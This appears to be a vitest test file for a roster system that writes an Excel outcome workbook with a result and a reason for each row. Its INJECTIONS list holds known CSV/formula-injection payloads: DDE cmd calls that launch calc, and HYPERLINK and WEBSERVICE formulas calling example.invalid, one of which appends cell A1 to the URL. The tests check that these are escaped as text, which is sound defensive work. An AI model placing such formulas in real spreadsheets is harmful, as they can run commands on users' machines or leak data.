import { createWriteStream } from 'node:fs';
import { readFile } from 'node:fs/promises';
import type { RawRow } from '@liangxian/shared/rosters/raw-row.ts';
import type { RowOutcome } from '@liangxian/shared/rosters/row-outcome.ts';
import { readXlsx } from 'hucre/xlsx';
import { describe, expect, test } from 'vitest';
import { writeOutcomeWorkbook } from '../../../../functions/rosters/adapters/outcome-workbook.ts';
import { harmlessText } from '../../../../functions/rosters/adapters/outcome-workbook-text.ts';
import { aResidentId } from '../../../builders/resident-id.ts';
import { outcomeOfFile, rowsOfFile } from './support/read.ts';
import { temporaryFiles } from './support/temporary-files.ts';
import { escaped, workbookOf } from './support/workbook.ts';

const files = temporaryFiles();

const HEADINGS = ['序号', '姓名', '证件号码'];
const ROWS = [
  aRow(1, '青松镇2027年度有效缴费明细清册'),
  aRow(3, ...HEADINGS),
  aRow(4, '1', '阿依古丽', aResidentId()),
  aRow(5, '2', '王伟', ' 990001198807150011'),
  aRow(7, '3', '=HYPERLINK("http://example.invalid","王")', '990001198807150012'),
  aRow(8, '合计', '3人'),
  aRow(9),
];
const OUTCOMES = new Map<number, RowOutcome>([
  [
    5,
    {
      rowNo: 5,
      outcome: 'remarked',
      remarks: [{ code: 'SEX_DIFFERS', column: '性别', found: '女', expected: '男' }],
    },
  ],
  [
    7,
    {
      rowNo: 7,
      outcome: 'rejected',
      problems: [
        {
          code: 'RESIDENT_ID_CHECKSUM',
          column: '证件号码',
          found: '990001198807150012',
          expected: '',
        },
        { code: 'NAME_LIKE_FORMULA', column: '姓名', found: '=HYPERLINK', expected: '' },
      ],
    },
  ],
  [8, { rowNo: 8, outcome: 'skipped', because: { code: 'TOTAL_ROW', found: '合计 3人' } }],
]);

describe('the outcome workbook', () => {
  test('A19-1 shows each row where the office had it, with result and reason in plain words', async () => {
    const path = await outcomeOf(ROWS, OUTCOMES);

    const rows = await rowsOfFile(path);
    const byNo = new Map(rows.map(({ rowNo, cells }) => [rowNo, cells.map((cell) => cell?.text)]));
    expect(byNo.get(3)).toEqual([...HEADINGS, '结果', '原因']);
    expect(byNo.get(4)).toEqual(['1', '阿依古丽', aResidentId(), '接受']);
    expect(byNo.get(5)?.slice(3)).toEqual([
      '接受，有提示',
      '第 5 行「性别」：填写的是“女”，证件号码中是“男”，请核对。',
    ]);
    expect(byNo.get(7)?.[3]).toBe('拒绝');
    expect(byNo.get(7)?.[4]).toMatch(/^第 7 行「证件号码」：.*\n第 7 行「姓名」：/u);
    expect(byNo.get(8)).toEqual([
      '合计',
      '3人',
      undefined,
      '跳过',
      '第 8 行：合计行（“合计 3人”），不是人员。',
    ]);
    expect([...byNo.keys()]).toEqual([1, 3, 4, 5, 7, 8]);
  });

  test('keeps identity and account numbers as text, formatted as text', async () => {
    const path = await outcomeOf([aRow(1, '账号'), aRow(2, '6220190614166000042')], new Map());

    const { sheets } = await readXlsx(await readFile(path), { readStyles: true });
    const cell = sheets[0]?.cells?.get('1,0');
    expect(sheets[0]?.rows[1]?.[0]).toBe('6220190614166000042');
    expect(cell?.style?.numFmt).toBe('@');
  });

  test('what a row holds beyond the headings stays, right of the reasons', async () => {
    const path = await outcomeOf([aRow(1, '姓名'), aRow(2, '王伟', '临时补充')], new Map());

    const [, row] = await rowsOfFile(path);
    expect(row?.cells.map((cell) => cell?.text)).toEqual(['王伟', '接受', undefined, '临时补充']);
  });

  test('can be corrected and uploaded again: the two new columns are in nobody’s way', async () => {
    const header = '序号 村 姓名 证件号码 人员类别 参加养老 养老档次 参加医疗'.split(' ');
    const person = ['1', '青松村', '王伟', aResidentId(), '一般居民', '是', '200', '是'];
    const path = await outcomeOf([aRow(1, ...header), aRow(2, ...person)], new Map(), header);

    const { accepted } = await outcomeOfFile(path, 'effective');

    expect(accepted.get(2)).toMatchObject({ name: '王伟', pension: { tierFen: 20_000 } });
  });

  test('text that looks like an escape or holds control characters comes back as it was', async () => {
    const texts = ['a_x000D_b', 'line\nbreak', 'tab\tinside', 'bell\u0007', '<&>"'];

    const path = await outcomeOf(
      [aRow(1, '备注'), ...texts.map((text, index) => aRow(index + 2, text))],
      new Map(),
    );

    const [, ...rows] = await rowsOfFile(path);
    expect(rows.map(({ cells }) => cells[0]?.text)).toEqual(texts);
  });
});

/** Known strings with which cells have been made to run something, call somebody or fetch something. */
const INJECTIONS = [
  '=1+1',
  '=HYPERLINK("http://example.invalid?x="&A1,"点击")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://example.invalid")',
  '+1+cmd|calc!A0',
  '-2+3+cmd|calc!A0',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u3000=1+1',
  '\u200B=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=DDE("cmd";"/C calc";"!A0")',
];

describe('cells that look like formulas', () => {
  test.each(INJECTIONS)('%j is plain text in the outcome, in every place', async (text) => {
    const path = await outcomeOf([aRow(1, '姓名', text), aRow(2, text)], new Map());

    const [header, row] = await rowsOfFile(path);
    for (const cell of [header?.cells[1], row?.cells[0]]) {
      expect(cell?.kind).toBe('text');
      expect(cell?.text).toBe(`'${text}`);
    }
    const { sheets } = await readXlsx(await readFile(path));
    const formulas = [...(sheets[0]?.cells?.values() ?? [])].filter(
      ({ formula }) => formula !== undefined,
    );
    expect(formulas).toEqual([]);
  });

  test.each(['王伟', '-', '—', '-5', '+8613912345678', '400.00', '990001198807150011', ''])(
    '%j is left as it is',
    (text) => {
      expect(harmlessText(text)).toBe(text);
    },
  );

  test('a formula of the uploaded workbook is never carried over as a formula', async () => {
    const rows = `<row><c t="inlineStr"><is><t>姓名</t></is></c></row><row><c><f>${escaped('1+1')}</f></c></row>`;
    const source = await rowsOfFile(await files.write(workbookOf({ sheets: [{ rows }] })));

    const [, row] = await rowsOfFile(await outcomeOf(source, new Map()));

    expect(row?.cells[0]).toEqual({ kind: 'text', text: "'=1+1" });
  });
});

function aRow(rowNo: number, ...texts: readonly string[]): RawRow {
  return { rowNo, cells: texts.map((text) => ({ kind: 'text', text })) };
}

async function outcomeOf(
  rows: readonly RawRow[],
  outcomes: ReadonlyMap<number, RowOutcome>,
  headings?: readonly string[],
): Promise<string> {
  const path = files.path('outcome.xlsx');
  const headerRowNo = rows === ROWS ? 3 : 1;
  const header = rows.find(({ rowNo }) => rowNo === headerRowNo);
  await writeOutcomeWorkbook(
    {
      rows: (async function* () {
        yield* rows;
      })(),
      headerRowNo,
      headings: headings ?? header?.cells.map((cell) => cell?.text ?? '') ?? [],
      outcomeOf: (rowNo) => outcomes.get(rowNo),
    },
    createWriteStream(path),
  );
  return path;
}
